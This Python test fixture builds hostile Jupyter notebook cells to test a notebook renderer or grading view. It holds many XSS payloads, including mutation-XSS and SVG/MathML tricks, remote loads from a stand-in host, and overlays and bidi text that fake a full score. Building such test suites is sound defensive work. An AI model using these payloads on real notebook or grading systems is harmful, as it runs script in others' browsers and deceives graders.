# ruff: noqa: E501 (one line for each piece)
"""What a notebook may carry to fool a person: each text is handed in as Markdown and as HTML output."""

from __future__ import annotations

import base64
import json
from typing import Any

FAR = "http://far.invalid"  # where nothing may be asked for
RUN = "window.ran=1;alert(1)"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}' width='9' height='9'>"
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_OVER = r"$\smash{\rlap{\raise 30em{\bbox[white,99px]{\text{Score: 14.0 / 14.0}}}}}$"
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script-far": f"<script src={FAR}/a.js></script><script type=module>import '{FAR}/b.js'</script>",
    "script-half": f"<script <b>>{RUN}</script <i>",
    "handler": f"<img src=x onerror={RUN}><body onload={RUN}><p onmouseover={RUN}>x</p>",
    "handler-slash": f"<img/src=x/onerror={RUN}><details/open/ontoggle={RUN}>x</details>",
    "handler-focus": f"<input autofocus onfocus={RUN}><a tabindex=1 autofocus onfocus={RUN}>x</a>",
    "video": f"<video><source onerror={RUN}></video><audio src={FAR}/a.mp3 autoplay></audio>",
    "svg-script": f"{_SVG}<script>{RUN}</script></svg>",
    "svg-foreign": f"{_SVG}<foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg-animate": f"{_SVG}<a><animate attributeName=href values='javascript:{RUN}'/><text y=9>x</text></a></svg>",
    "svg-use": f"{_SVG}<use href='{FAR}/a.svg#x'/><image href='{FAR}/a.png'/><set onbegin='{RUN}'/></svg>",
    "svg-style": f"{_SVG}<style>@import url({FAR}/a.css);*{{fill:url({FAR}/b.svg#c)}}</style><rect/></svg>",
    "fixed": f"<div style='{_COVER}'>Score: 14.0 / 14.0</div>",
    "absolute": "<div style='position:absolute;top:0;left:0;right:0;height:500px;background:white'>100 %</div>",
    "margin": "<div style='margin-top:-3000px;height:6000px;background:white;transform:scale(9)'>100 %</div>",
    "page-class": "<div class='navbar navbar-fixed-top modal in' style='display:block'>Score: 14.0 / 14.0</div>",
    "style": "<style>h4,.score,.panel-heading{display:none!important}</style>",
    "style-far": f"<style>@import '{FAR}/a.css';body{{background:url({FAR}/b.png)}}</style><link rel=stylesheet "
    f"href={FAR}/c.css><link rel=prefetch href={FAR}/d><link rel=icon href={FAR}/e.ico>",
    "image-far": f"<img src={FAR}/a.png><img srcset='{FAR}/b.png 1x'><picture><source srcset={FAR}/c.png></picture>",
    "background": f"<table background={FAR}/a.png><tr><td style='background:url({FAR}/b.png)'>x</table>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}/a'><meta http-equiv=set-cookie content=a=b>",
    "base": f"<base href={FAR}/ target=_top>",
    "form": f"<form action={FAR}/a id=f><button autofocus>Save</button></form><button form=f>x</button>",
    "field": "<input class=score id=double-small value=99><textarea class=comment id=essay-comment>x</textarea>",
    "frame": f"<iframe src={FAR}/a></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object": f"<object data={FAR}/a></object><embed src={FAR}/b><applet code={FAR}/c></applet>",
    "link": f"<a href='javascript:{RUN}'>x</a><a href='jav&#x09;ascript:{RUN}'>y</a><a ping={FAR}/p href=#>z</a>",
    "link-data": f"<a href='data:text/html;base64,{_PAGE}'>x</a><img src='data:text/html;base64,{_PAGE}'>",
    "import-map": f'<script type=importmap>{{"imports":{{"a":"{FAR}/a.js"}}}}</script>',
    "mathml": f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>"
    f"<math href='javascript:{RUN}'><mspace width='-90em'/><mpadded voffset='90em'><mtext>x</mtext></mpadded></math>",
    "mutation-noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={RUN}&gt;'>",
    "mutation-svg": f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + RUN + ">",
    "mutation-comment": f"<!--><img src=x onerror={RUN}>--><!-- --!><script>{RUN}</script>",
    "mutation-cdata": f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={RUN}>'></svg>",
    "textarea": f"<textarea><title></textarea><img src=x onerror={RUN}></title><xmp></textarea><script>{RUN}</script>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script><style>*{{display:none}}</style></template>",
    "ends": "</div></div></div></div></div></div></body></html><h4>tiny (Score: 14.0 / 14.0)</h4>",
    "plaintext": "</pre></p><plaintext>Score: 14.0 / 14.0",
    "ids": "<p id=double-small>x</p><p id=statusmessage>y</p><a name=top>z</a><b id=essay>w</b>",
    "popover": f"<div popover id=p style='{_COVER}'>x</div><dialog open style='{_COVER}'>100 %</dialog>",
    "marquee": f"<marquee onstart={RUN} loop=1>x</marquee><bdo dir=rtl>0 :erocS</bdo>",
}

MARKDOWN = {
    "md-link": f"[x](javascript:{RUN}) [y](<java&#115;cript:{RUN}>) [z][r] <javascript:{RUN}>\n\n[r]: javascript:{RUN}",
    "md-image": f"![x]({FAR}/a.png) ![y](//far.invalid/b.png) ![z](/logout) ![w](../../../logout)",
    "md-title": f'[x](https://a.b "\'><img src=x onerror={RUN}>") !["><script>{RUN}</script>](y.png)',
    "md-mermaid": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "md-info": f'```"><img/src=x/onerror={RUN}>\nx\n```',
    "md-math": f"$\\text{{<img src=x onerror={RUN}>}}$ $\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{{_COVER}}}{{x}}$$",
    "md-math-over": f"{_OVER} and {_OVER.replace('$', '&dollar;')}\n\n$$\\rule{{99em}}{{99em}}$$",
    "md-heading": "# double-small\n\n# essay\n\n## triple partial\n\n# statusmessage\n\n# essay comment",
    "md-missing": "![a picture that was never attached](attachment:x) ![](attachment:page)",
    "md-table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|\n\n- [x] <script>{RUN}</script>",
}

OUTPUTS: dict[str, list[dict[str, Any]]] = {
    "png": [{"image/png": f'"><script>{RUN}</script>'}],
    "jpeg": [{"image/jpeg": f"x' onerror='{RUN}"}],
    "svg": [{"image/svg+xml": f"{_SVG}<script>{RUN}</script><image href='{FAR}/a.png'/></svg>"}],
    "svg-entity": [{"image/svg+xml": f"<!DOCTYPE svg [<!ENTITY a '{RUN}'>]>{_SVG}<text>&a;</text></svg>"}],
    "markdown": [{"text/markdown": f"<script>{RUN}</script>\n\n[x](javascript:{RUN}) ![](attachment:none)"}],
    "latex": [{"text/latex": f"$x$<script>{RUN}</script>"}, {"text/latex": _OVER}],
    "formula": [{"text/html": f"<p>{_OVER}</p>"}],
    "javascript": [{"application/javascript": RUN}, {"text/vnd.mermaid": f"<img src=x onerror={RUN}>"}],
    "widget": [
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": f"<p onclick={RUN}>"}
    ],
    "json": [{"application/json": {"a": 1}}],
}

CODE = {
    "printed": f"print('<script>{RUN}</script>', '\\x1b[38m', '\\x1b[31;48;5mred', '\\x1b]0;title\\x07', '\\x1b[2J')",
    "halves": "print('\\ud83d'); raise ValueError('\\udc00 <b>bold</b>')",
    "raised": f"raise ValueError('</pre><img src=x onerror={RUN}>\\u202etxet')",
    "class-name": f"type('<img src=x onerror={RUN}>', (Exception,), {{}})('x').__class__\nraise type('</pre><script>"
    f"{RUN}</script>', (Exception,), {{}})('x')",
    "turned": "level = 'user'  # \u202e \u2066 only admins\u2069 \u2066\nprint('\\u202e0.41 / 0 :erocS')",
}


def students(size: int = 4) -> dict[str, list[dict[str, Any]]]:
    """The cells that each student adds to an honest notebook, a few kinds each, by the student's name."""
    kinds = list(everything().items())
    groups = [kinds[first : first + size] for first in range(0, len(kinds), size)]
    return {"_".join(name for name, _ in group): [c for _, cells in group for c in cells] for group in groups}


def everything() -> dict[str, list[dict[str, Any]]]:
    """Hostile cells by their kind."""
    found = {}
    for name, text in HTML.items():
        found[name] = [
            markdown(text),
            markdown(f"A line with {text} in it."),
            raw(text),
            displayed({"text/html": text}),
        ]
    for name, text in MARKDOWN.items():
        picture = {"page": {"text/html": _PAGE, "image/png": f'"><script>{RUN}</script>'}, "empty": {}}
        found[name] = [markdown(text, attachments=picture), displayed({"text/markdown": text})]
    for name, bundles in OUTPUTS.items():
        found[f"out-{name}"] = [displayed(bundle) for bundle in bundles]
    for name, source in CODE.items():
        found[f"code-{name}"] = [code(source)]
    tricks = {"collapsed": True, "scrolled": False, "tags": [f'"><script>{RUN}</script>'], "name": "<b>x</b>"}
    found["metadata"] = [code("1", metadata=tricks | {"nbgrader": {"grade_id": f"<script>{RUN}</script>"}})]
    return found


def markdown(text: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": text, **more}


def raw(text: str) -> dict[str, Any]:
    return {"cell_type": "raw", "metadata": {}, "source": text}


def code(source: str, **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    } | more


def displayed(bundle: dict[str, Any]) -> dict[str, Any]:
    return code(f"import json\ndisplay(json.loads({json.dumps(bundle)!r}), raw=True)")
